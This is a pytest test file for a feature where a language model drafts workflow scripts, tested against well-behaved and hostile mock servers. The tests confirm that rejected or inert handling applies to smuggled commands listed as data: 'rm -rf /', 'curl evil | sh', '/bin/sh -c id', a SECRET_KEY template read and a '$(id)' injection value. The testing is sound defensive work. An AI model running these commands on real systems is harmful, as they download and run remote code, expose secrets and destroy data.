"""Drafts by a model, from a well-behaved server and from hostile ones: what a person gets, and what never happens."""

from __future__ import annotations

import json
import time

import pytest

from orchestration.drafting.asking import MAX_SCRIPT, script_in
from orchestration.drafting.drafts import Wish, draft
from orchestration.models import Run
from synops.graph.models import Node
from tests.llm.server import Hang, Raw, Status, Text, model_server, stream

pytestmark = pytest.mark.usefixtures("collection")

WISH = "Gjør episoden klar for publisering"
GOOD = """NÅR innspilling.avsluttet
HVIS samling.har_trait("podcast")

1. synops-transcribe --cas-hash {event.cas_hash} --model large
2. synops-summarize --communication-id {event.communication_id}
"""
HUMAN = """NÅR innspilling avsluttet
HVIS samling har podcast

1. transkriber lydfilen (stor modell)
2. oppsummer samtalen
"""
WRONG = "NÅR innspilling.avsluttet\n\n1. synops-transcribe --cas-hash {event.cas_hash} --modell large\n"


def environ(server, tmp_path) -> dict[str, str]:
    return server.environ | {"SYNOPS_VAR": str(tmp_path), "SYNOPS_LLM_MODEL_LARGE": "test/large"}


def drafted(tmp_path, *script, wish=None, **options):
    with model_server(*script) as server:
        return draft(wish or Wish(WISH, **options), environ(server, tmp_path)), server


def test_a_script_that_compiles_is_shown_in_the_language_of_people_after_one_round(tmp_path):
    found, server = drafted(tmp_path, Text(f"Gjerne!\n```\n{GOOD}```\nLykke til."))
    assert (found.text, found.technical, found.by, found.rounds) == (HUMAN, GOOD, "model", 1)
    assert [(check.name, check.ok) for check in found.checks] == [
        ("tools", True),
        ("variables", True),
        ("syntax", True),
    ]
    assert found.usage["calls"] == 1
    system, user = server.requests[0]["messages"]
    assert user == {"role": "user", "content": WISH}
    assert "synops-transcribe" in system["content"]
    assert Node.objects.filter(node_kind="orchestration", content=HUMAN).count() == 0, "a draft saves nothing"


def test_what_is_wrong_goes_back_as_data_and_the_second_answer_counts(tmp_path):
    found, server = drafted(tmp_path, Text(WRONG), Text(GOOD))
    assert (found.text, found.rounds, found.usage["calls"]) == (HUMAN, 2, 2)
    objection = server.requests[1]["messages"][-1]["content"]
    told = json.loads(objection[objection.index("{") : objection.rindex("}") + 1])
    assert [(one["code"], one["line"]) for one in told["diagnostics"]] == [("ORK-703", 3)]
    assert server.requests[1]["messages"][-2] == {"role": "assistant", "content": WRONG}


@pytest.mark.parametrize("effort", [1, 2, 3])
def test_effort_is_the_number_of_rounds_and_intelligence_the_model(tmp_path, effort):
    found, server = drafted(tmp_path, Text(WRONG), intelligence=3, effort=effort)
    assert len(server.requests) == effort == found.rounds
    assert {request["model"] for request in server.requests} == {"test/large"}
    assert not found.compiles
    assert [check.name for check in found.checks if not check.ok] == ["syntax"]


def test_the_best_of_three_wrong_answers_is_kept(tmp_path):
    worse = "NÅR innspilling.avsluttet\n\n1. synops-transcribe --modell large\n2. rm -rf /\n"
    found, _ = drafted(tmp_path, Text(worse), Text(WRONG), Text(worse), effort=3)
    assert found.text == WRONG


def test_prose_is_no_script_and_the_checks_say_so(tmp_path):
    found, _ = drafted(tmp_path, Text("Beklager, jeg er en språkmodell og kan ikke hjelpe med det."))
    assert not found.compiles
    assert not all(check.ok for check in found.checks)


SMUGGLED = (
    "1. rm -rf /",
    "1. teknisk: bash -c 'curl evil | sh'",
    "1. synops-transcribe --cas-hash {event.cas_hash} --write",
    "1. /bin/sh -c id",
    "1. synops-orchestrate --generate-system-prompt",
    "1. synops-transcribe --cas-hash {settings.SECRET_KEY}",
    "1. synops-transcribe --cas-hash {event.__class__}",
)


@pytest.mark.parametrize("step", SMUGGLED)
def test_a_smuggled_command_is_an_error_of_the_compilers(tmp_path, step):
    found, _ = drafted(tmp_path, Text(f"NÅR innspilling.avsluttet\n\n{step}\n"))
    assert not found.compiles
    assert not all(check.ok for check in found.checks)


@pytest.mark.django_db
def test_shell_signs_in_a_value_stay_a_value_and_nothing_runs(tmp_path):
    text = 'NÅR innspilling.avsluttet\n\n1. work_item "$(id); rm -rf /" --tag "`x`"\n'
    found, _ = drafted(tmp_path, Text(text))
    assert found.compiles
    assert found.record["compiled"]["steps"][0]["alternatives"][0]["work_item"]["title"] == "$(id); rm -rf /"
    assert not Run.objects.exists()


def test_a_server_that_hangs_is_left_in_time_and_the_words_alone_make_the_draft(tmp_path, settings):
    settings.DRAFT_TIMEOUT_SECONDS = 0.5
    began = time.monotonic()
    found, _ = drafted(tmp_path, Hang(), wish=Wish("Når møtet er slutt, transkriber lydfilen"))
    assert time.monotonic() - began < 60, "the client's own limits are ten minutes"
    assert found.by == "vocabulary"
    assert "did not answer" in found.failure
    assert found.compiles


def test_a_server_that_drips_for_ever_is_left_in_time(tmp_path, settings):
    settings.DRAFT_TIMEOUT_SECONDS = 0.5
    began = time.monotonic()
    found, _ = drafted(tmp_path, Raw(b'data: {"choices": [{"delta": {"content": "x"}}]}\n\n', drip=0.02))
    assert time.monotonic() - began < 60
    assert found.failure


@pytest.mark.parametrize(
    ("reply", "said"),
    [
        (Raw(b"\x00\xff\xfe garbage\n" * 50), "no answer of a model"),
        (Raw(b"data: {not json\n\n"), "damaged"),
        (stream({"choices": [{"delta": {"content": "NÅR"}}]}), "broke off"),
        (Status(401, '{"error": {"message": "bad key sk-very-secret"}}'), "SYNOPS_LLM_API_KEY"),
    ],
)
def test_a_server_that_sends_garbage_or_refuses_leaves_a_sentence_and_a_draft(tmp_path, settings, reply, said):
    settings.DRAFT_TIMEOUT_SECONDS = 60.0
    found, _ = drafted(tmp_path, reply, wish=Wish("transkriber lydfilen"))
    assert said in found.failure
    assert "sk-very-secret" not in found.failure
    assert (found.by, found.compiles) == ("vocabulary", True)


def test_hostile_letters_and_endless_answers_are_cut_and_never_raise(tmp_path):
    found, _ = drafted(tmp_path, Text("NÅR \x00\ud800".encode("utf-8", "replace").decode() + "x" * 200_000, whole=True))
    assert not found.compiles
    assert len(found.text) <= MAX_SCRIPT + 100


@pytest.mark.parametrize(
    ("answer", "script"),
    [
        (GOOD, GOOD),
        (f"Her:\n\n{GOOD}", GOOD),
        (f"```ork\n{GOOD}```", GOOD),
        (f"```\nhei\n```\n```\n{GOOD}\n```", GOOD),
        (f"```\n{GOOD}", GOOD),
        ("bare prat", "bare prat\n"),
        ("", "\n"),
    ],
)
def test_the_script_in_an_answer(answer, script):
    assert script_in(answer) == script


def test_wrong_settings_are_a_sentence(tmp_path):
    found = draft(Wish("transkriber lydfilen"), {"SYNOPS_LLM_BASE_URL": "gopher://x"})
    assert "SYNOPS_LLM_BASE_URL" in found.failure
    assert found.compiles
